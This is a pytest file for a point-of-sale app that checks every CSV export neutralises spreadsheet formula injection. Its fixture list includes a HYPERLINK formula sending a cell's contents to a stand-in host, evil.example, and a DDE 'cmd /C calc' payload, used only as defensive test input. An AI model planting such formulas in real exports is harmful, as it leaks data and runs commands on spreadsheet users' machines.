"""Every CSV the project writes neutralises spreadsheet formulas (issue 11, item 5), through one function."""

from __future__ import annotations

import csv
import io
import json
from typing import Any
from uuid import uuid4

import pytest
from sqlalchemy import text

from pos.csv_export import csv_writer, neutralize
from tests.http.test_office import at, csv_rows, line, login, paid, producer, product, push, sale
from tests.unit.test_reports import build_history

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tTAB",
    "\rCR",
]
MARCH = {"from": "01/03/2025", "to": "31/03/2025"}


def test_text_that_starts_a_formula_is_written_as_text_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([*EVIL, -5000, 0, "Chè Tân Cương", "", "a=b", None])
    raw = out.getvalue()
    assert raw.startswith("\ufeff") and raw.endswith("\r\n")
    row = next(csv.reader(io.StringIO(raw[1:], newline="")))
    assert row[: len(EVIL)] == ["'" + value for value in EVIL]
    assert row[len(EVIL) :] == ["-5000", "0", "Chè Tân Cương", "", "a=b", ""]  # an amount stays a number
    assert neutralize(-5000) == -5000 and neutralize("-5000") == "'-5000"


def test_the_showroom_product_report_csv(uow: Any, client: Any, auth: Any) -> None:
    with uow() as s:
        history = build_history(s)
        tea = history.products["P1"]
        s.execute(text("UPDATE product SET name = :name WHERE id = :id"), {"name": EVIL[0], "id": tea.id})
        s.execute(text("UPDATE saleline SET name = :name WHERE product_id = :id"), {"name": EVIL[0], "id": tea.id})
        s.execute(text("UPDATE producer SET name = :name WHERE id = :id"), {"name": EVIL[1], "id": tea.producer_id})
    auth.login("manager")
    response = client.get("/reports/products/export.csv", query_string=MARCH)
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")) for cell in row]
    assert "'" + EVIL[0] in cells and EVIL[0] not in cells
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_the_audit_csv_still_neutralises(uow: Any, client: Any, auth: Any) -> None:
    auth.login("manager")
    with uow() as s:  # a login attempt is logged under the username typed
        s.execute(text("UPDATE auditentry SET entity_id = :evil WHERE action = 'login'"), {"evil": EVIL[0]})
    body = client.get("/audit/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"), newline="")) for cell in row]
    assert "'" + EVIL[0] in cells
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.mark.postgres
def test_the_central_receipt_and_sales_csv(central_app: Any, central_engine: Any) -> None:
    from pos.central import credentials
    from pos.central.users import create_central_user
    from pos.db import session_scope

    with session_scope(central_engine) as s:
        credentials.register_showroom(s, "SR01", "OCOP Hoàn Kiếm", "Hà Nội", "Hoàn Kiếm", actor="admin")
        create_central_user(s, "vanphong", "Nguyễn Thị Văn Phòng", "manager", "matkhau123")
    maker = producer(str(uuid4()), EVIL[1], "Hà Nội")
    item = product(str(uuid4()), maker, "EVIL1", EVIL[0], 50_000, 3, "thuc_pham")
    shift = str(uuid4())
    sold = sale("SR01-2026-000001", at(2, 10), shift, [line(1, item, 1)], [paid("cash", 50_000, 50_000)])
    sold["cashier"] = EVIL[2]
    from pos.sync.samples import Record

    push(
        central_engine,
        "SR01",
        [
            Record("producer", maker["uuid"], maker, at(1, 8)),
            Record("product", item["uuid"], item, at(1, 8)),
            Record("sale", sold["uuid"], sold, at(2, 10)),
        ],
    )
    client = central_app.test_client()
    login(client, "vanphong", "matkhau123")
    receipt = csv_rows(client, f"/office/sales/{sold['uuid']}.csv")
    listing = csv_rows(client, "/office/sales.csv", **{"from": "01/03/2026", "to": "31/03/2026"})
    cells = [cell for row in receipt + listing for cell in row.values() if isinstance(cell, str)]
    assert "'" + EVIL[0] in cells
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), json.dumps(cells)
